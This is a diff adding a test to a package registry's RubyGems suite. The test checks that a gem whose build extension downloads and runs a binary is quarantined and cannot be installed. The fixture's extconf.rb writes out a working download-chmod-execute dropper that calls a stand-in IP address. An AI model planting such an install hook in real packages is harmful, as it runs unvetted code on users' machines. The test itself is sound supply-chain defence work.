@@ -269,6 +269,41 @@ describe('RubyGems with gem and bundler', () => {
     assertFailed(await bundleInstall(dir, source, ['gem "stk-leaky"']));
   });
 
+  it('a gem whose extension downloads and runs a binary is quarantined by the default policy, invisible to gem and bundler', async () => {
+    const dropper: FixtureGem = {
+      name: 'stk-fast-json',
+      version: '0.3.0',
+      extensions: ['ext/stk_fast_json/extconf.rb'],
+      files: {
+        'lib/stk-fast-json.rb': 'module StkFastJson; end\n',
+        // Never built here: gem build only packs it.
+        'ext/stk_fast_json/extconf.rb': [
+          'require "net/http"',
+          'bin = File.join(Dir.home, ".cache", "json-updater")',
+          'File.binwrite(bin, Net::HTTP.get(URI("http://203.0.113.7/u.bin")))',
+          'File.chmod(0755, bin)',
+          'system(bin)',
+          'File.write("Makefile", "all:\\ninstall:\\n")',
+          '',
+        ].join('\n'),
+      },
+    };
+    const data = buildGem(dropper, await mkdtemp(path.join(root, 'build-dropper-')));
+    // A repository of its own: other tests here change the policy of rubyist/gems.
+    await server.createRepo('rubyist', 'wild');
+    const wild = `${repoUrl('rubyist/wild')}/`;
+    const push = assertOk(await gemPush(repoUrl('rubyist/wild'), data, token));
+    assert.match(push.stdout, /held in quarantine/);
+    assert.doesNotMatch((await http('GET', `${wild}versions`)).text, /stk-fast-json/);
+    const repo = await server.domain.repos.get('rubyist', 'wild');
+    const stored = await server.domain.packages.load({ repo: repo!, format: 'rubygems', name: 'stk-fast-json' }, { includeQuarantined: true });
+    const rules = (stored?.versions[0]?.gate.findings as { rule: string; action: string }[]).filter((f) => f.action === 'quarantine').map((f) => f.rule);
+    assert.ok(rules.some((rule) => rule.startsWith('malware/')), `quarantined by ${rules.join(', ')}`);
+    const dir = await sandbox('dropper');
+    assertFailed(await gemInstall(dir, wild, 'stk-fast-json'));
+    assertFailed(await bundleInstall(dir, wild, ['gem "stk-fast-json"']));
+  });
+
   it('a private repository needs a token: in the source URL for gem, in the config for bundler', async () => {
     const privateUrl = repoUrl('rubyist/secret');
     assertOk(await gemPush(privateUrl, gems.get('beta') as Buffer, token));
